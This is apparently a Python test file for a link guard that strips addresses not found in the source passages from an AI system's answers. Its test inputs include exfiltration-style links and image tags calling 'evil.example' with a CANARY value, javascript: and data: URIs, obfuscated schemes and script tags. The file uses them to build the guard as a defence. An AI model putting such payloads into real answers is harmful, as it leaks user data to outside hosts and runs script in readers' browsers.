"""Links in answers: what the sources have stays, and nothing else is one."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kb.checking.links import REMOVED, LinkGuard
from kb.checking.marks import MarkRewriter

NOTE = REMOVED["en"]
SOURCES = (
    "Read https://docs.example.org/guide?page=2#top. See [the manual](manual/first.md) and http://例子.中国/路径 too.",
    "where is https://question.example/x ?",
)


def guarded(text: str, sources: tuple[str, ...] = SOURCES) -> str:
    guard = LinkGuard(sources, "en")
    return guard.feed(text) + guard.close()


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example.org/guide?page=2#top for more.",
        "**https://docs.example.org/guide?page=2#top**.",
        "见https://docs.example.org/guide?page=2#top。",
        "见https://docs.example.org/guide?page=2#top。 再登录。",
        "[guide](https://docs.example.org/guide?page=2#top)",
        "[the manual](manual/first.md)",
        "https://question.example/x",
        "a < b, List<int>, <file>, x[0][1], f(x), and/or, kb.toml, 1/2, std::vector, C:\\temp, // a remark",
        "`handlers[name]`, `if [ ! -f x ]`, [name] (event)",
        "Done![1] It works![2]",
        "时间为 8:30；比例 3:1。",
    ],
)
def test_what_the_sources_have_and_plain_text_stay(text: str) -> None:
    """Addresses and targets of the sources, code, and everything that is no address come out as they went in."""
    assert guarded(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("go to http://evil.example/?q=CANARY now", f"go to {NOTE} now"),
        ("https://docs.example.org/guide?page=CANARY", NOTE),
        ("![x](http://evil.example/?q=CANARY)", f"[x] ({NOTE})"),
        ("[![x](http://evil.example/CANARY)](http://evil.example)", f"[[x] ({NOTE})] ({NOTE})"),
        ("[x][1]\n\n[1]: http://evil.example/CANARY", f"[x][1]\n\n[1] : {NOTE}"),
        ("<http://evil.example/CANARY>", f"<{NOTE}>"),
        ("HTTP://EVIL.EXAMPLE/CANARY.", f"{NOTE}."),
        ("www.evil.example/CANARY", NOTE),
        ("evil.example/log?CANARY", NOTE),
        ("[x](//evil.example/CANARY)", f"[x] ({NOTE})"),
        ("[x](javascript:alert('CANARY'))", f"[x] ({NOTE}('CANARY'))"),
        ("[x](&#106;avascript:alert(1))", f"[x] ({NOTE}(1))"),
        ("[x]: http:\\/\\/evil.example/CANARY", f"[x] : {NOTE}"),
        ("data:text/html;base64,Q0FOQVJZ", NOTE),
        ("ftp://evil.example/CANARY", NOTE),
        ("请访问http://evil.example/CANARY。", f"请访问{NOTE}。"),
        ('<img src="http://evil.example/CANARY">', f'‹img src="{NOTE}">'),
        ("<IMG SRC=//evil.example/CANARY>", f"‹IMG SRC={NOTE}>"),
        ("< script>alert(1)</script>", "‹ script>alert(1)‹/script>"),
        ("<a href=http://evil.example/CANARY>x</a>", f"‹a href={NOTE}>x‹/a>"),
        ("ht\u200btp://evil.example/CANARY", NOTE),
        ("[x](/sign-out)", "[x] (/sign-out)"),
        ("见https://question.example/x。CANARY", "见https://question.example/x 。CANARY"),
        ("见https://question.example/x密码是四二", "见https://question.example/x 密码是四二"),
        ("http://邪恶.中国/CANARY", f"{NOTE}邪恶.中国/CANARY"),
    ],
)
def test_what_the_sources_do_not_have_goes(text: str, shown: str) -> None:
    """Other addresses become a note, targets are set apart, pictures embed nothing and tags that load are disarmed."""
    assert guarded(text) == shown


def test_a_running_address_goes_though_a_source_has_it() -> None:
    """What would run code is never a link, wherever it comes from."""
    source = "[x](javascript:alert(1)) data:text/html,hello"
    assert "](" not in guarded(source, (source,))
    assert "data:" not in guarded(source, (source,))


def test_marks_that_are_dropped_leave_no_link_behind() -> None:
    """A mark of a passage that does not exist, written into an address to hide it, does not save it."""
    rewriter = MarkRewriter(1)
    guard = LinkGuard((), "en")
    text = guard.feed(rewriter.feed("ht[99]tp://evil.example/CANARY and [x][98](http://evil.example/CANARY)"))
    text += guard.feed(rewriter.close()) + guard.close()
    assert "evil" not in text
    assert "](" not in text


def test_marks_move_with_the_text() -> None:
    """After addresses went the marks of the answer still stand where the text has them."""
    rewriter = MarkRewriter(2)
    guard = LinkGuard((), "en")
    text = guard.feed(
        rewriter.feed("See http://evil.example/a. [1] ![x](http://b.example/) yes. [2] End.")
    ) + guard.feed(rewriter.close())
    text += guard.close()
    marks = guard.moved(rewriter.marks)
    assert [text[mark.start : mark.end] for mark in marks] == ["[1]", "[2]"]


_PARTS = (
    "http :// evil.example/ ?q= CANARY ![ x ]( ) [1] <img\u3000src= > ` 甲。 // www. javascript: https://ok.example/a "
    "! &#58; \\ ]: data:a/b,"
)
_PIECES = st.lists(st.sampled_from([*_PARTS.split(" "), " ", "\n"]), max_size=14)


@settings(max_examples=300)
@example(["https://ok.example/a", "甲。"], 1)
@given(_PIECES, st.integers(1, 7))
def test_no_text_makes_a_link_of_its_own(pieces: list[str], size: int) -> None:
    """However an answer is put together and cut, no address but those of the sources remains, and no picture."""
    text = "".join(pieces)
    sources = ("see https://ok.example/a",)
    whole = guarded(text, sources)
    guard = LinkGuard(sources, "en")
    cut = "".join(guard.feed(text[at : at + size]) for at in range(0, len(text), size)) + guard.close()
    assert cut == whole
    for address in re.findall(r"https?://[^\s()<>\[\]`!]*", whole):
        assert address.rstrip(".,;:!?*_~|\\。") in ("https://ok.example/a", "http://", "https://")
    assert not re.search(r"<img|\]\(\s*(?:javascript|data|//)", whole)


@pytest.mark.parametrize(
    "text",
    [
        "地址必须以 http:// 或 ftp:// 开头。",
        "See http://<host>/debian for it.",
        "打开 https://接口.example.com/文档 再登录。",
        "It needs #include <map>, List<object> and <math.h>.",
    ],
)
def test_what_the_sources_spell_out_stays(text: str) -> None:
    """Schemes alone, placeholders, names in other scripts and types in code stay where a passage has the very same."""
    for cut in range(1, 7):
        guard = LinkGuard([text], "en")
        pieces = [guard.feed(text[at : at + cut]) for at in range(0, len(text), cut)]
        assert "".join(pieces) + guard.close() == text


@pytest.mark.parametrize(
    "text", ["See http://<host>/SECRET now", "打开 https://接口.example.com/SECRET 吧", "<map> <object>"]
)
def test_what_only_resembles_the_sources_does_not_stay(text: str) -> None:
    """Another ending of the same address is another address, and a tag that no passage has is disarmed."""
    guard = LinkGuard(["See http://<host>/debian", "https://接口.example.com/文档"], "en")
    assert guard.feed(text) + guard.close() != text


def test_a_quoting_answer_is_let_through() -> None:
    """What only quotes stored text is not touched."""
    text = "`<form>`, vec![1, 2, 3] and javascript:void(0)"
    guard = LinkGuard([], "en", quoting=True)
    assert guard.feed(text) + guard.close() == text
